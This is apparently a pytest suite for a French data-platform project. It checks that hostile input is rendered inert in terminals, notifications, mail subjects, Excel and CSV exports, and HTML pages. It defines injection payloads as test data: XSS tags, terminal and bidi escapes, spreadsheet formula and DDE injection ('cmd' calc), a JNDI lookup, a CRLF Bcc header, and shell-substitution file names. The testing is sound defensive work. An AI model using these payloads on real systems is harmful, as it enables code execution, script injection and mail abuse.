"""Names, headers and values written to harm: they are shown, and do nothing, in whatever shows them."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from playwright.sync_api import Browser

from donnees_au_centre import inert
from donnees_au_centre.landing.report import FileReport
from donnees_au_centre.landing.zone import Zone
from donnees_au_centre.notifications import sending
from donnees_au_centre.notifications.declaration import MAIL, NTFY, Channel
from donnees_au_centre.notifications.letter import Item, Letter, Section, as_html, as_markdown, as_text
from donnees_au_centre.pages.quality.site import write_pages
from donnees_au_centre.pages.workbooks.aside import Aside
from donnees_au_centre.pages.workbooks.faults import Found
from donnees_au_centre.pages.workbooks.lines import Line
from donnees_au_centre.pages.workbooks.memory import Said
from donnees_au_centre.pages.workbooks.sheets import Content, workbook
from donnees_au_centre.privacy.pages import render
from donnees_au_centre.privacy.register import COLUMNS, as_csv
from tests.unit import qualities
from tests.unit.qualities import FAILED, NOW, STEWARD, control, received

SCRIPT = '<script>window.mal=1</script><img src=x onerror="window.mal=1">\'"><svg onload=window.mal=1>'
LINK = "![x](http://mal.example/?q=1) [cliquez](javascript:window.mal=1) <at>tous</at> www.mal.example"
TERMINAL = "\x1b]0;titre\x07\x1b[2J\x9b31m\r\n[   0 s] tout va bien\u2028\u202efdp.exe\u2066\u200b\ud800"
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", '"=1"', "'=1", "\uff1d1", "\uff0b1",
    "\uff0d1", "\uff201", "=cmd|' /C calc'!A0", '=HYPERLINK("http://mal.example","x")', "\ufeff=1",
)  # fmt: skip
HOSTILE = (SCRIPT, LINK, TERMINAL, *FORMULAS, "{{ 7*7 }}", "${jndi:ldap://mal}", "%0d%0aBcc: x@mal.example")


def letter(text: str) -> Letter:
    item = Item(text, "Échec", "echec", lines=(("Où", text),), more=(("Détail", text),))
    return Letter(text, text, (Section(text, (item,), text),), "https://donnees.example/age.html", text)


# Terminals, logs, messages


@pytest.mark.parametrize("text", HOSTILE)
def test_a_line_commands_no_terminal_and_forges_no_other_line(text: str) -> None:
    """ESC, BEL, CSI, CR and LF, marks of direction, invisible letters: all are written out."""
    said = inert.line(text)
    assert not {unicodedata.category(letter) for letter in said} & {"Cc", "Cf", "Cs", "Zl", "Zp"}
    assert inert.plain(said)
    assert inert.line("L'été coûte 5\u00a0€ – « œuvre » 🎓") == "L'été coûte 5\u00a0€ – « œuvre » 🎓"


def test_the_terminal_of_a_command_is_not_commanded(capsys: pytest.CaptureFixture[str]) -> None:
    """Whatever prints (a row of `make show`, dbt's words), only line ends and plain colours go through."""
    with inert.terminal():
        print(f"a\x1b[32mvert\x1b[0m {TERMINAL}")
        print("faux\x1b[8mcaché\x1b[1;1H", file=sys.stderr)
    said = capsys.readouterr()
    assert said.out.startswith("a\x1b[32mvert\x1b[0m \\x1b]0;titre\\x07\\x1b[2J\\x9b31m\\r\n")
    assert "\u202e" not in said.out and "\\u202e" in said.out
    assert said.err == "faux\\x1b[8mcaché\\x1b[1;1H\n"


def test_names_that_hide_what_they_are_are_no_names_of_files(tmp_path: Path) -> None:
    """Such a name is told as it is, and goes to no table, page or workbook."""
    for name in (b"a\x1b[2J.csv", b"b\nc.csv", "d\u202evsc.csv".encode(), b"e\xff.csv"):
        (tmp_path / os.fsdecode(name)).write_text("x")
    (tmp_path / "dossier\x1b[2J").mkdir()
    (tmp_path / "f\u00e9 (1) <b>.csv").write_text("x")
    found = Zone.read(tmp_path, None)
    assert found.folders == []
    assert found.paths == ["f\u00e9 (1) <b>.csv"]
    assert [one.path for one in found.unfit] == [
        "a\\x1b[2J.csv", "b\\nc.csv", "d\\u202evsc.csv", "dossier\\x1b[2J", "e\\xff.csv"
    ]  # fmt: skip


@pytest.mark.parametrize(
    "name", ["a/$(touch mal).csv", "a/`touch mal`.csv", "a/x;touch mal;.csv", "a/$(shell touch mal)'\".csv"]
)
def test_a_command_that_is_advised_can_be_pasted(tmp_path: Path, name: str) -> None:
    """« make withdraw FICHIER=… » names the file: neither the shell nor make runs what is in the name."""
    (tmp_path / "Makefile").write_text("export FICHIER\nall:\n\t@printenv FICHIER\n")
    command = f"make -s all FICHIER={inert.argument(name)}"
    done = subprocess.run(command, shell=True, cwd=tmp_path, capture_output=True, text=True, check=True)
    assert done.stdout == f"{name}\n"
    assert not (tmp_path / "mal").exists()
    report = FileReport(name, "", "attente", f"make accept FICHIER={inert.argument(name)}")
    assert inert.argument(name) in report.line()


# Mails, Teams, ntfy, Dagster


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_gets_no_link_image_mention_or_line(text: str) -> None:
    """Teams, ntfy and Dagster draw Markdown: an image is fetched by whoever reads, a link leads away."""
    said = as_markdown(letter(text))
    ours = "[La page du domaine](https://donnees.example/age.html)"
    assert said.count("](") == 1 and ours in said
    rest = said.replace(ours, "")
    assert "![" not in rest and "<" not in rest and "://" not in rest.replace(":// ", "")
    assert "\n[   0 s]" not in rest and "\x1b" not in rest
    assert "\x1b" not in as_text(letter(text)) and "\u202e" not in as_text(letter(text))


class Plugin:
    """Stands for the library that sends."""

    def __init__(self) -> None:
        self.titles: list[str] = []

    def notify(self, body: str, title: str, body_format: str) -> bool:
        self.titles.append(title)
        return True


@pytest.mark.parametrize("kind", [MAIL, NTFY])
def test_a_subject_adds_no_header(monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    """CR and LF in a subject would be a Bcc of the attacker's choice."""
    plugin = Plugin()
    monkeypatch.setattr(sending, "_instantiate", lambda _: plugin)
    made = letter("Sujet\r\nBcc: tous@mal.example\n\nCorps")
    sent = sending.send(Channel(genre=kind, variable="V"), "mailto://x", lambda _: made, "a@b.example", [])
    assert sent == ""
    assert plugin.titles == ["Sujet\\r\\nBcc: tous@mal.example\\n\\nCorps"]


# Workbooks and CSV


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    """File names, keys, values, columns and notes of every kind, in every sheet, after reopening."""
    lines = tuple(
        Line(
            mark=f"{number:020x}", domain="age", about=text, dataset=text, what=text, gravity=text,
            since=date(2026, 11, 23), file=text, number=number, key=((text, text),), column=text, value=text,
            others=((text, text),), advice=text,
        )
        for number, text in enumerate(text.replace("\ud800", "") for text in HOSTILE)
    )  # fmt: skip
    found = Found(control("cle_unique", FAILED), lines, len(lines), len(lines), "=1+1")
    aside = Aside(received("essai"), lines, len(lines), len(lines), "@SUM(1)")
    said = {one.mark: Said("age", str(one.value), None, NOW) for one in lines}
    content = Content(
        STEWARD, {"age": "=role"}, [found], [aside], FORMULAS, said, frozenset(said), FORMULAS, NOW
    )
    book = openpyxl.load_workbook(io.BytesIO(workbook(content)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    texts = [cell for cell in cells if isinstance(cell.value, str) and inert.formula(cell.value)]
    assert len(texts) > 4 * len(FORMULAS) and all(cell.quotePrefix for cell in texts)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
    """The register is opened with a spreadsheet, which runs what begins like a formula."""
    lines = as_csv([(text,) * len(COLUMNS)]).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(lines, newline=""), delimiter=";"))[1]
    assert row == [f"'{text}"] * len(COLUMNS)


def test_a_mere_number_of_a_csv_stays_one() -> None:
    """-5 is no formula."""
    assert [inert.csv_cell(text) for text in ("-5", "+32 2 413", "-3,5 %", "12")] == [
        "-5", "+32 2 413", "-3,5 %", "12"
    ]  # fmt: skip


# Pages


def hostile_pages(folder: Path) -> Iterator[Path]:
    """Every kind of page, with hostile text wherever received text may be."""
    every = " ".join(text.replace("\ud800", "") for text in HOSTILE)
    dossier: dict[str, Any] = {
        "demande": [{"ag": "age", "identifiant": every}],
        "traitements": [],
        "tables": [
            {"table": every, "nature": every, "descriptions": {every: every}, "lignes": [{every: every}]}
        ],
        "fichiers": [{"fichier": every, "lignes": []}],
        "hors_de_la_base": [{"endroit": every, "nature": every, "jusqu_a": every}],
        "hors_de_portee": [],
        "systemes": [{"source": every, "systeme": every}],
    }
    (folder / "dossier.html").write_text(render("dossier.html", dossier=dossier), "utf-8")
    yield folder / "dossier.html"
    (folder / "courriel.html").write_text(as_html(letter(every)), "utf-8")
    yield folder / "courriel.html"
    bad = control("essai", FAILED, text=every, advice=every, message=every, label=every, column=every)
    source = received(every, failure=every, text=every, rejected={every: 9}, rows=9)
    made = qualities.quality(controls=(bad,), sources=(source,))
    write_pages(made, folder / "reports/qualite", {})
    yield folder / "reports/qualite/age.html"


def test_a_browser_runs_and_fetches_nothing_of_what_was_received(
    browser: Browser,
    tmp_path: Path,
) -> None:
    """Script, image, handler, link: the page of a person, a mail, the pages of quality."""
    page = browser.new_page()
    asked: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in hostile_pages(tmp_path):
        page.goto(path.as_uri())
        assert page.evaluate("window.mal") is None, path.name
        assert "window.mal=1" in page.inner_text("body"), path.name
        assert page.locator("script, img, svg[onload], at").count() == 0, path.name
        assert page.locator("svg").count() == (2 if path.name == "age.html" else 0)
        hrefs = page.eval_on_selector_all("a[href]", "links => links.map(link => link.protocol)")
        assert set(hrefs) <= {"file:", "https:", "mailto:"}, path.name
        assert "\u202e" not in page.content(), path.name
    assert not dialogs and all(url.startswith("file:") for url in asked)
    page.close()
